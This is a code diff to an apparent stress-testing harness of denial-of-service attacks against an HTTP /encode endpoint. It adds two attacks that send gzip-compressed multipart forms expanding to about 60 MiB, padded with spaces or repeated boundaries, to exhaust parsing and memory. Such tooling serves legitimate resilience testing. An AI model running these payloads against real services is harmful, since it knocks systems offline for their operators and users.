@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import asyncio
+import gzip
 import statistics
 import struct
 import time
 from collections import Counter
 from collections.abc import AsyncIterator, Awaitable, Callable
 from contextlib import asynccontextmanager
+from secrets import token_hex
 from typing import Annotated
 from urllib.parse import urlsplit
 
@@ -27,6 +29,7 @@ GIF_SIDE, GIF_FRAMES, GIF_CONNECTIONS = 6000, 41, 12
 SLOW_BODIES, LARGE_SLOW_BODIES, IDLE_CONNECTIONS = 600, 1400, 500
 HEADER_BYTES, HEADER_LINES = 200_000_000, 1_000_000
 JSON_KEYS, JSON_REQUESTS = 600_000, 16
+FORM_BYTES, FORMS = 60 * 2**20, 8  # 61 KB by gzip
 ANSWER_SECONDS = 90.0
 PIECE_BYTES = 2**20
 UPLOAD = b"POST /encode HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\n"
@@ -110,6 +113,24 @@ async def json_keys(host: str, port: int) -> Counter[str]:
     return await _all([_exchange(host, port, head + body) for _ in range(JSON_REQUESTS)])
 
 
+async def padded_forms(host: str, port: int) -> Counter[str]:
+    """Send forms whose boundary is followed by a crowd of spaces."""
+    return await _forms(host, port, b"--a" + b" " * FORM_BYTES)
+
+
+async def keyed_forms(host: str, port: int) -> Counter[str]:
+    """Send forms of boundaries alone under idempotency keys, which know a form by its parts."""
+    return await _forms(host, port, b"--a" * (FORM_BYTES // 3), keyed=True)
+
+
+async def _forms(host: str, port: int, form: bytes, keyed: bool = False) -> Counter[str]:
+    packed = gzip.compress(b'--a\r\nContent-Disposition: form-data; name="media"\r\n\r\nx\r\n' + form)
+    head = b"POST /encode HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=a\r\n"
+    head += b"Content-Encoding: gzip\r\nContent-Length: %d\r\n" % len(packed)
+    keys = [f"Idempotency-Key: {token_hex(8)}\r\n".encode() if keyed else b"" for _ in range(FORMS)]
+    return await _all([_exchange(host, port, head + key + b"\r\n" + packed) for key in keys])
+
+
 ATTACKS: dict[str, Attack] = {
     "gif": gif,
     "slow-bodies": slow_bodies,
@@ -119,6 +140,8 @@ ATTACKS: dict[str, Attack] = {
     "large-header": large_header,
     "many-headers": many_headers,
     "json-keys": json_keys,
+    "padded-forms": padded_forms,
+    "keyed-forms": keyed_forms,
 }
 
 
